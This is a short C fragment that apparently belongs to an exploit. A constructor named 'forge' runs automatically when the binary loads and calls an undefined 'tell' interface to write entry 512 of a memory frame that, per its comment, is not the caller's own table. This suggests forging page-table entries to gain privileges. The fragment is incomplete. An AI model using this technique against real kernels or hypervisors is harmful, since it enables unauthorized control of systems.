/* writes entry 512 of frame 0x1, which is no table of its */
static void __attribute__((constructor)) forge(void)
{
    tell(0x100, 1, 0, 0, 0);
    tell(0x102, 1, 1, 512, 0);
}
